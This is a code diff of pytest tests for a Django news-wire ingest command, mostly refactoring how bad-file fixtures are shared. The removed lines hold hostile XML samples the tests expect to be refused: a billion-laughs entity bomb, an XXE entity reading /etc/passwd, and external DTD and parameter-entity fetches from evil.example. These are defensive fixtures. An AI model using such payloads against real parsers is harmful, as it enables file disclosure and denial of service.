@@ -107,7 +107,8 @@ def test_a_batch_of_payload_stories_is_stored_as_text(tmp_path, fmt):
             short = copy.agency  # the dateline's agency: cut at 40 characters
             short = short if len(short) <= 40 else short[:39].rstrip() + "…"
             assert story.agency.short_name == short
-            assert [p.person.name for p in story.person_roles.all()] == [copy.person]
+            people = [role.person.name for role in story.person_roles.all()]
+            assert people == [copy.person]
             # Tags as the story form makes them: a double quote becomes a single one.
             assert story.tags.names()[0] == tidy_tag_names([copy.subject])[0]
 
@@ -116,7 +117,9 @@ def test_a_batch_of_payload_stories_is_stored_as_text(tmp_path, fmt):
 @pytest.mark.parametrize("fmt", ["ninjs", "newsml-g2"])
 def test_a_dry_run_of_hostile_copy_writes_nothing(tmp_path, media_root, fmt):
     path = put(
-        tmp_path, "story" + w.SUFFIXES[fmt], w.write(fmt, copy_with("{m}<", fmt))
+        tmp_path,
+        "story" + w.SUFFIXES[fmt],
+        w.write(fmt, copy_with(XSS_TEMPLATES[0], fmt)),
     )
     with nothing_written(media_root):
         code, said = ingest(path, options=["--dry-run"])
@@ -203,25 +206,23 @@ def test_people_are_stored_composed_and_invisible_names_are_skipped(tmp_path):
     ]
 
 
-# A NUL (or a lone surrogate) in each part ninjs can carry: (case, field, part named).
+# A NUL in each part ninjs can carry: (field of Copy, the part the message names).
 NUL_PARTS = [
-    ("headline", "headline", "headline"),
-    ("dek", "dek", "standfirst"),
-    ("body", "body", "body paragraph 1"),
-    ("byline", "byline", "byline"),
-    ("place", "place", "dateline place"),
-    ("person", "person", "person 1's name"),
-    ("subject", "subject", "subject 1"),
-    ("agency", "agency", "agency"),
-    ("caption", "caption", "photo 1's caption"),
-    ("credit", "credit", "photo 1's credit"),
+    ("headline", "headline"),
+    ("dek", "standfirst"),
+    ("body", "body paragraph 1"),
+    ("byline", "byline"),
+    ("place", "dateline place"),
+    ("person", "person 1's name"),
+    ("subject", "subject 1"),
+    ("agency", "agency"),
+    ("caption", "photo 1's caption"),
+    ("credit", "photo 1's credit"),
 ]
 
 
 @pytest.mark.django_db
-@pytest.mark.parametrize(
-    ("field", "part"), [c[1:] for c in NUL_PARTS], ids=[c[0] for c in NUL_PARTS]
-)
+@pytest.mark.parametrize(("field", "part"), NUL_PARTS, ids=[c[0] for c in NUL_PARTS])
 def test_a_nul_in_any_part_is_refused_with_the_file_and_part_named(
     tmp_path, media_root, field, part
 ):
@@ -248,90 +249,19 @@ def test_a_lone_surrogate_is_refused_with_the_part_named(tmp_path, media_root):
 
 # ---------------------------------------------------------------------- files
 
-BOMB = b"""<?xml version="1.0"?>
-<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">
-<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;">]>
-<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x">&lol3;</newsItem>"""
-XXE = b"""<?xml version="1.0"?>
-<!DOCTYPE newsItem [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
-<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x">&xxe;</newsItem>"""
-EXTERNAL_DTD = b"""<?xml version="1.0"?>
-<!DOCTYPE newsItem SYSTEM "http://evil.example/g2.dtd">
-<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x"/>"""
-PARAMETER_ENTITY = b"""<?xml version="1.0"?>
-<!DOCTYPE newsItem [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
-<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x"/>"""
-SEED_TEXT = w.agency_text(w.Copy())
-SEED_NINJS = w.ninjs(w.Copy())
-SEED_NEWSML = w.newsml(w.Copy())
-DEEP_XML = SEED_NEWSML.replace(b"<p>", b"<div>" * 5_000 + b"<p>", 1).replace(
-    b"</p>", b"</p>" + b"</div>" * 5_000, 1
-)
-SAFETY = "refused for safety"
-FORMAT_OF = {".txt": "agency-text", ".json": "ninjs", ".xml": "newsml-g2"}
-
-# (case, file name, bytes, the reason printed after the file's name)
-BAD_FILES = [
-    ("empty", "empty.txt", b"", "The file is empty."),
-    ("blank", "blank.txt", b" \n\t\n", "The file is empty."),
-    ("binary", "photo.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary file"),
-    ("utf16-without-bom", "u16.txt", SEED_TEXT.decode().encode("utf-16-le"), "binary"),
-    ("cp1251", "cp1251.txt", "Заголовок\n\nМОСКВА. /ТАСС/.".encode("cp1251"), "UTF-8"),
-    (
-        "latin1-in-utf8-xml",
-        "l1.xml",
-        SEED_NEWSML.replace(b"Vladivostok", b"V\xe9"),
-        "not well-formed",
-    ),
-    (
-        "unknown-encoding",
-        "enc.xml",
-        SEED_NEWSML.replace(b'"UTF-8"', b'"x-klingon"'),
-        "unknown encoding",
-    ),
-    ("truncated-text", "cut.txt", SEED_TEXT[:60], "No dateline found"),
-    ("truncated-json", "cut.json", SEED_NINJS[:200], "the file looks cut short"),
-    ("truncated-xml", "cut.xml", SEED_NEWSML[:700], "The XML is not well-formed"),
-    ("entity-bomb", "bomb.xml", BOMB, SAFETY),
-    ("external-entity", "xxe.xml", XXE, SAFETY),
-    ("external-dtd", "dtd.xml", EXTERNAL_DTD, SAFETY),
-    ("parameter-entity", "pe.xml", PARAMETER_ENTITY, SAFETY),
-    ("deep-xml", "deep.xml", DEEP_XML, "nests elements thousands deep"),
-    (
-        "deep-json",
-        "deep.json",
-        b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
-        "nests too deeply",
-    ),
-    (
-        "huge-number",
-        "num.json",
-        SEED_NINJS.replace(b'"1"', b"9" * 5_000, 1),
-        "cannot be read",
-    ),
-    ("json-list", "list.json", b"[" + SEED_NINJS + b"]", "this is not one"),
-    ("not-newsml", "page.xml", b"<html><body><p>Hi</p></body></html>", "not NewsML-G2"),
-    (
-        "picture-only-ninjs",
-        "pic.json",
-        b'{"uri": "urn:p", "type": "picture"}',
-        "is a picture, not a story",
-    ),
-]
-
 
 @pytest.mark.django_db
 @pytest.mark.parametrize(
     ("name", "content", "reason"),
-    [c[1:] for c in BAD_FILES],
-    ids=[c[0] for c in BAD_FILES],
+    [c[1:] for c in w.BAD_FILES],
+    ids=[c[0] for c in w.BAD_FILES],
 )
 def test_a_bad_file_is_refused_with_its_name_and_reason(
     tmp_path, media_root, name, content, reason
 ):
     path = put(tmp_path, name, content)
     with nothing_written(media_root):
-        code, said = ingest(path, fmt=FORMAT_OF[path.suffix])
+        code, said = ingest(path, fmt=w.FORMAT_OF[path.suffix])
     assert code == 1
     assert f"FAILED {path}: " in said and reason in said, said
     assert "failed 1." in said and "CommandError: 1 failed; see above." in said
@@ -349,17 +279,17 @@ def test_page_text_starting_with_markup_says_what_it_was_read_as(tmp_path):
 
 # Encodings that are fine: (case, file name, bytes, headline stored).
 GOOD_ENCODINGS = [
-    ("utf8-bom", "bom.txt", b"\xef\xbb\xbf" + SEED_TEXT, w.Copy.headline),
+    ("utf8-bom", "bom.txt", b"\xef\xbb\xbf" + w.SEED_TEXT, w.Copy.headline),
     (
         "utf16-bom-json",
         "u16.json",
-        SEED_NINJS.decode().encode("utf-16"),
+        w.SEED_NINJS.decode().encode("utf-16"),
         w.Copy.headline,
     ),
     (
         "latin1-declared-xml",
         "l1.xml",
-        SEED_NEWSML.replace(b'"UTF-8"', b'"ISO-8859-1"').replace(
+        w.SEED_NEWSML.replace(b'"UTF-8"', b'"ISO-8859-1"').replace(
             b"Northern Sea Route", b"Caf\xe9 Route"
         ),
         "Café Route traffic sets a record",
@@ -421,6 +351,7 @@ def test_a_body_over_the_limit_is_refused_with_its_length(
             "headline: Ensure this value has at most 300 characters (it has 301).",
         ),
     ],
+    ids=w.FORMATS,
 )
 def test_an_overlong_headline_is_refused_not_cut(tmp_path, media_root, fmt, reason):
     headline = "Long headline " * 21 + "the end"  # 301 characters
@@ -433,7 +364,7 @@ def test_an_overlong_headline_is_refused_not_cut(tmp_path, media_root, fmt, reas
 
 @pytest.mark.django_db
 def test_a_file_over_twenty_megabytes_is_refused_unread(tmp_path, media_root):
-    path = put(tmp_path, "huge.json", SEED_NINJS + b" " * (20 * 1024 * 1024))
+    path = put(tmp_path, "huge.json", w.SEED_NINJS + b" " * (20 * 1024 * 1024))
     with nothing_written(media_root):
         code, said = ingest(path)
     assert code == 1
@@ -542,7 +473,7 @@ def test_an_odd_creation_time_is_flagged_for_the_editor(
 def test_an_agency_dateline_date_that_cannot_be_is_refused(
     tmp_path, media_root, dateline, reason
 ):
-    text = SEED_TEXT.replace(b"November 29, 2026", dateline.encode())
+    text = w.SEED_TEXT.replace(b"November 29, 2026", dateline.encode())
     path = put(tmp_path, "d.txt", text)
     with nothing_written(media_root):
         code, said = ingest(path)
@@ -555,11 +486,11 @@ def test_an_agency_dateline_date_that_cannot_be_is_refused(
 
 @pytest.mark.django_db
 def test_a_batch_keeps_the_good_stories_and_names_each_bad_file(tmp_path, media_root):
-    put(tmp_path, "1-good.txt", SEED_TEXT)
+    put(tmp_path, "1-good.txt", w.SEED_TEXT)
     put(tmp_path, "2-good.json", w.ninjs(w.Copy(headline="Second good story")))
     bad = {
         "3-empty.txt": b"",
-        "4-bomb.xml": BOMB,
+        "4-bomb.xml": w.BOMB,
         "5-nul.json": w.ninjs(w.Copy(wire_id="urn:5", person=f"Ta{p.NUL}ro")),
         "6-embargo.json": w.ninjs(w.Copy(wire_id="urn:6", embargo="2026-02-30")),
         "7-long.xml": w.newsml(w.Copy(wire_id="urn:7", headline="Long " * 61)),
